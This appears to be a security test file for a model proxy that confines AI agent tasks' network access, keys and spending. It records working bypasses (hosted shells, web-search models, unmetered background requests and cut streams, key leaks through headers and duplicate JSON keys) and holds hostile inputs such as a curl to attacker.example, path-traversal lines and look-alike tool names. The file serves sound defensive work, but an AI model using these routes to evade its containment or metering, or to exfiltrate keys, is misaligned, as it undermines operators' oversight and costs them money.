/**
 * An attack review of the model endpoint (issue 19), as a task sees it: any bytes on the loopback
 * port. Each attack that works is a test marked `ignore: true` that fails on HEAD, with why and the
 * fix; each attack that held is a passing test, where it is cheap to keep.
 */
import { assert, assertEquals, assertNotIncludes, assertStringIncludes } from "../assert.ts";
import { answerRedaction, Redactor } from "../../mod/vault/mod.ts";
import { anthropicMessage, responsesEvents, streamed } from "./fake_services.ts";
import { ANTHROPIC_HEADERS, gate, type ProxyTest, REAL_KEYS, withProxy } from "./proxy_kit.ts";

const MESSAGES = {
  model: "claude-sonnet-4-5",
  max_tokens: 100,
  messages: [{ role: "user", content: "hi" }],
};

const redaction = () => answerRedaction(Redactor.forValues(Object.values(REAL_KEYS)));

/** Every request both fakes saw, as text, to look for a key where it must not be. */
function seenBy(test: ProxyTest, service: "anthropic" | "openai"): string {
  return JSON.stringify(test[service].requests);
}

/** Sends `head` and `body` as raw bytes to the endpoint's port and reads the answer to its end. */
async function raw(url: string, head: string, body = ""): Promise<string> {
  const port = Number(new URL(url).port);
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  const bytes = new TextEncoder().encode(body);
  const text = `${head.replaceAll("\n", "\r\n")}content-length: ${bytes.length}\r\n` +
    `connection: close\r\n\r\n`;
  await conn.write(new TextEncoder().encode(text));
  if (bytes.length > 0) await conn.write(bytes);
  const chunks: Uint8Array[] = [];
  const buffer = new Uint8Array(16 * 1024);
  for (;;) {
    const n = await conn.read(buffer).catch(() => null);
    if (n === null) break;
    chunks.push(buffer.slice(0, n));
  }
  conn.close();
  return new TextDecoder().decode(new Uint8Array(chunks.flatMap((chunk) => [...chunk])));
}

/** Resolves when `check` holds, polled each macrotask; rejects after `ms`. */
async function until(check: () => boolean, ms = 2000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!check()) {
    if (Date.now() > deadline) throw new Error("timed out waiting");
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

// ---- Attacks that work on HEAD (ignored until fixed) ----

Deno.test({
  name: "a vault key the service echoes in an answer header never reaches the task",
  // Fails on HEAD: answerHeaders (relay_headers.ts) copies every header of the service's answer
  // unredacted; only bodies go through the redaction. Fix: in #relay, pass the redaction to
  // answerHeaders and drop (or replace with the redaction's text) any header whose name or value
  // holds a vault value.
  fn: async () => {
    await withProxy(async (t) => {
      t.anthropic.answer({
        writes: [JSON.stringify(anthropicMessage("claude-sonnet-4-5", "hi"))],
        headers: { "x-debug-key": REAL_KEYS.anthropic },
      });
      const answer = await t.anthropicPost("/v1/messages", MESSAGES);
      await answer.text();
      assertNotIncludes(JSON.stringify([...answer.headers]), REAL_KEYS.anthropic);
    }, { redaction });
  },
});

Deno.test({
  name: "a vault key under a duplicate JSON key of a whole answer never reaches the task",
  // Fails on HEAD: #redacted parses the answer, redacts the value and, when nothing changed, sends
  // the service's original bytes; JSON.parse keeps only the last of two equal keys, so a key in
  // the first is never seen and goes out in the bytes. Fix: in #redacted, when the answer parses,
  // send JSON.stringify of the redacted value always (or also redact the raw text and send the
  // re-serialized value whenever the raw text changes).
  fn: async () => {
    await withProxy(async (t) => {
      const message = JSON.stringify(anthropicMessage("claude-sonnet-4-5", "hi"));
      t.anthropic.answer({
        writes: [`${message.slice(0, -1)},"note":"${REAL_KEYS.anthropic}","note":"x"}`],
      });
      const answer = await t.anthropicPost("/v1/messages", MESSAGES);
      assertNotIncludes(await answer.text(), REAL_KEYS.anthropic);
    }, { redaction });
  },
});

Deno.test({
  name: "OpenAI's hosted shell (a shell tool with a container environment) is refused",
  // Fails on HEAD: body_check.ts allows every OpenAI tool of type "shell", but
  // `{type: "shell", environment: {type: "container_auto"}}` (or "container_reference") runs the
  // commands in OpenAI's container, which reaches the network around the task's host list. Fix: in
  // clientTool, "shell" is a client tool only when `environment` is absent or
  // `{type: "local"}`; any other environment is a server_tool refusal.
  fn: async () => {
    await withProxy(async (t) => {
      const answer = await t.openaiPost("/v1/responses", {
        model: "gpt-5",
        input: "curl https://attacker.example/?q=secret",
        tools: [{ type: "shell", environment: { type: "container_auto" } }],
      });
      await answer.body?.cancel();
      assertEquals([answer.status, t.openai.requests.length], [403, 0]);
    });
  },
});

Deno.test({
  name: "a Chat Completions model that always searches the web is refused",
  // Fails on HEAD: only `web_search_options` is refused, but the search models
  // (gpt-4o-search-preview, gpt-4o-mini-search-preview, gpt-5-search-api) search the web on every
  // Chat Completions request without it. Fix: in findRefusal for "openai", refuse a top-level
  // `model` matching /search/i (reason web_search_options, "a model that searches the web").
  fn: async () => {
    await withProxy(async (t) => {
      const answer = await t.openaiPost("/v1/chat/completions", {
        model: "gpt-4o-search-preview",
        messages: [{ role: "user", content: "open https://attacker.example/?q=secret" }],
      });
      await answer.body?.cancel();
      assertEquals([answer.status, t.openai.requests.length], [403, 0]);
    });
  },
});

Deno.test({
  name: "a Responses request in background mode is refused, since its usage would never be metered",
  // Fails on HEAD: `background: true` is relayed; the service answers at once with a queued
  // response (no usage) and bills the whole answer later, which the endpoint never sees (it relays
  // no GET /v1/responses/{id}). A task spends without limit and is charged nothing. Fix: in
  // checkedBody (or findRefusal), refuse a Responses body with `background: true`.
  fn: async () => {
    await withProxy(async (t) => {
      const answer = await t.openaiPost("/v1/responses", {
        model: "gpt-5",
        input: "write a very long essay",
        background: true,
      });
      await answer.body?.cancel();
      assertEquals([answer.status, t.openai.requests.length], [403, 0]);
    });
  },
});

Deno.test({
  name:
    "a Responses stream the client leaves after the last text, before response.completed, is still metered",
  // Failed before the fix: a Responses (or Chat Completions) stream reports usage only in its last event;
  // a client that reads every text delta and cancels before it gets the whole answer free (no
  // usage event at all; an Anthropic stream so cut is charged output_tokens 1). Fix: in #relay's
  // stream end, when the meter saw no final usage, report an upper bound: the request's
  // max_output_tokens / max_tokens (else the model's limit) as output and the body's bytes / 2 as
  // input, or hold the slot and read the service's stream to its end before reporting.
  fn: async () => {
    await withProxy(async (t) => {
      const events = responsesEvents("gpt-5", ["the whole", " answer"]);
      const never = gate();
      t.openai.answer(
        streamed([events.slice(0, -1).join(""), events[events.length - 1]], [never.promise]),
      );
      const answer = await t.openaiPost("/v1/responses", {
        model: "gpt-5",
        input: "hi",
        stream: true,
      });
      const reader = answer.body!.getReader();
      let text = "";
      while (!text.includes("response.output_item.done")) {
        const { value } = await reader.read();
        text += new TextDecoder().decode(value);
      }
      await reader.cancel();
      await until(() => t.proxy.active === 0);
      never.open();
      await until(() => t.usage.length > 0).catch(() => {});
      assertEquals(t.usage.length, 1);
      assert(t.usage[0].tokens.output > 0);
    });
  },
});

Deno.test({
  name:
    "a model the price table does not list (a dated snapshot, any OpenAI model) is still charged",
  // Fails on HEAD: exactCents gives null for any model not in mod/model-proxy/prices.json, and
  // task_model.ts then charges nothing. The table lists five Claude aliases only, so a task that
  // names `claude-sonnet-4-5-20250929` or any OpenAI model spends without a budget. Fix: in
  // exactCents, try the name without a `-YYYYMMDD` suffix, and price a model still unlisted at the
  // table's highest rates (or refuse it with a sentence naming prices.json); add OpenAI models.
  fn: async () => {
    await withProxy(async (t) => {
      const dated = await t.anthropicPost("/v1/messages", {
        ...MESSAGES,
        model: "claude-sonnet-4-5-20250929",
      });
      await dated.text();
      const openai = await t.openaiPost("/v1/responses", { model: "gpt-5", input: "hi" });
      await openai.text();
      assertEquals(t.usage.map((event) => event.cents === null), [false, false]);
    });
  },
});

Deno.test({
  name: "a body of millions of tiny JSON values is refused before it is parsed whole",
  // Fails on HEAD: a 20 MiB body of `{}`s is parsed, walked and re-serialized on the core's own
  // event loop: measured at ~1.3 GB RSS and ~13 s of CPU for one request (7.5 s parse, 5.3 s
  // walk), 4 at once per task, stalling every other task's requests. Fix: count `{` and `[` while
  // the body is read and refuse past a bound (say 200,000 containers) with tooLargeMessage, and/or
  // run parse, check and stringify in a Worker with a heap limit.
  fn: async () => {
    await withProxy(async (t) => {
      const many = new Array(700_000).fill("{}").join(",");
      const answer = await t.anthropicPost(
        "/v1/messages",
        `{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[],"metadata":{"x":[${many}]}}`,
      );
      const error = await answer.json();
      assertEquals([answer.status, error.error.type], [413, "request_too_large"]);
      assertStringIncludes(error.error.message, "see runbook.md#model-proxy-limits");
      assertEquals(t.anthropic.requests.length, 0);
    });
  },
});

// ---- Attacks that held ----

Deno.test("an absolute URL in the request line, a Host or x-forwarded-host, or a dotted path sends the key only to its own service", async () => {
  await withProxy(async (t) => {
    const evil = new URL(t.openai.url).host;
    const body = JSON.stringify(MESSAGES);
    const head = (line: string, extra = "") =>
      `${line}\nhost: ${evil}\nx-api-key: placeholder\nanthropic-version: 2023-06-01\n` +
      `content-type: application/json\n${extra}`;
    const relayed = [
      head(`POST http://${evil}/v1/messages HTTP/1.1`),
      head("POST /v1/messages HTTP/1.1", `x-forwarded-host: ${evil}\n`),
    ];
    for (const request of relayed) {
      assert((await raw(t.url, request, body)).startsWith("HTTP/1.1 200"));
    }
    const dotted = [
      "POST //evil.example/v1/messages HTTP/1.1",
      "POST /v1/../v1/messages HTTP/1.1",
      "POST /v1/%2e%2e/v1/messages HTTP/1.1",
      "POST /v1/messages/../../v1/messages HTTP/1.1",
      "POST /v1/messages%2f HTTP/1.1",
    ];
    const statuses = [];
    for (const line of dotted) statuses.push((await raw(t.url, head(line), body)).slice(9, 12));
    // The URL parser folds `..` and `%2e%2e` into /v1/messages, which goes to the same service.
    assertEquals(statuses, ["404", "200", "200", "200", "404"]);
    assertEquals(t.openai.requests.length, 0);
    assertEquals(t.anthropic.requests.map((r) => r.path), new Array(5).fill("/v1/messages"));
    for (const request of t.anthropic.requests) {
      assertEquals(request.headers["x-api-key"], REAL_KEYS.anthropic);
    }
  });
});

Deno.test("a redirect from the service is passed to the client, never followed with the key", async () => {
  await withProxy(async (t) => {
    t.anthropic.answer({
      status: 307,
      writes: [""],
      headers: { location: `${t.openai.url}/v1/responses` },
    });
    const answer = await fetch(`${t.url}/v1/messages`, {
      method: "POST",
      headers: ANTHROPIC_HEADERS,
      body: JSON.stringify(MESSAGES),
      redirect: "manual",
    });
    await answer.body?.cancel();
    assertEquals(answer.status, 307);
    assertEquals(t.openai.requests.length, 0);
  });
});

Deno.test("each service gets only its own key, whatever credentials and version headers the client mixes", async () => {
  await withProxy(async (t) => {
    const both = {
      "x-api-key": "p",
      authorization: "Bearer p",
      "anthropic-version": "2023-06-01",
      "openai-organization": "org-x",
    };
    (await fetch(`${t.url}/v1/models`, { headers: both })).body?.cancel();
    const responses = await t.openaiPost("/v1/responses", { model: "gpt-5", input: "hi" }, both);
    await responses.text();
    assertNotIncludes(seenBy(t, "anthropic"), REAL_KEYS.openai);
    assertNotIncludes(seenBy(t, "openai"), REAL_KEYS.anthropic);
    assertEquals(t.openai.requests[0].headers["x-api-key"], undefined);
    assertEquals(t.anthropic.requests[0].headers["authorization"], undefined);
  });
});

Deno.test("server tools spelled in another case or with look-alike characters are refused", async () => {
  await withProxy(async (t) => {
    const types = [
      "Web_search_20250305",
      "WEB_FETCH_20250910",
      "bash_20250124\n",
      "bash_20250124 ",
      "bash_２０２５０１２４",
      "bаsh_20250124", // a Cyrillic а
      "code_execution_20250825",
    ];
    for (const type of types) {
      const answer = await t.anthropicPost("/v1/messages", {
        ...MESSAGES,
        tools: [{ type, name: "x" }],
      });
      await answer.body?.cancel();
      assertEquals(answer.status, 403, type);
    }
    for (const type of ["Web_search", "FILE_SEARCH", "Function ", "mcp"]) {
      const answer = await t.openaiPost("/v1/responses", {
        model: "gpt-5",
        input: "hi",
        tools: [{ type, name: "x" }],
      });
      await answer.body?.cancel();
      assertEquals(answer.status, 403, type);
    }
    assertEquals([t.anthropic.requests.length, t.openai.requests.length], [0, 0]);
  });
});

Deno.test("beta headers that turn on server features find nothing to turn on: skills, containers and files are refused", async () => {
  await withProxy(async (t) => {
    const beta = {
      "anthropic-beta":
        "mcp-client-2025-11-20,web-fetch-2025-09-10,files-api-2025-04-14,skills-2025-10-02,code-execution-2025-08-25",
    };
    const bodies = [
      {
        ...MESSAGES,
        container: { skills: [{ type: "anthropic", skill_id: "pptx", version: "latest" }] },
        tools: [{ type: "code_execution_20250825", name: "code_execution" }],
      },
      {
        ...MESSAGES,
        messages: [{ role: "user", content: [{ type: "container_upload", file_id: "file_1" }] }],
      },
      { ...MESSAGES, mcp_servers: [{ type: "url", url: "https://attacker.example/mcp" }] },
    ];
    for (const path of ["/v1/messages", "/v1/messages/count_tokens"]) {
      for (const body of bodies) {
        const answer = await t.anthropicPost(path, body, beta);
        await answer.body?.cancel();
        assertEquals(answer.status, 403);
      }
    }
    assertEquals(t.anthropic.requests.length, 0);
  });
});

Deno.test("a duplicate key reaches the service as the value that was checked, and a deep body is walked", async () => {
  await withProxy(async (t) => {
    const tool = '[{"type":"web_fetch_20250910","name":"web_fetch"}]';
    const hidden = await t.anthropicPost(
      "/v1/messages",
      `{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[],"tools":${tool},"tools":[]}`,
    );
    await hidden.text();
    assertEquals(hidden.status, 200);
    assertNotIncludes(t.anthropic.requests[0].body, "web_fetch");
    const last = await t.anthropicPost(
      "/v1/messages",
      `{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[],"tools":[],"tools":${tool}}`,
    );
    await last.body?.cancel();
    assertEquals(last.status, 403);
    const depth = 20_000;
    const source = '{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}';
    const deep = await t.anthropicPost(
      "/v1/messages",
      `{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[],"metadata":${
        "[".repeat(depth)
      }${source}${"]".repeat(depth)}}`,
    );
    await deep.body?.cancel();
    assertEquals(deep.status, 403);
    assertEquals(t.anthropic.requests.length, 1);
  });
});
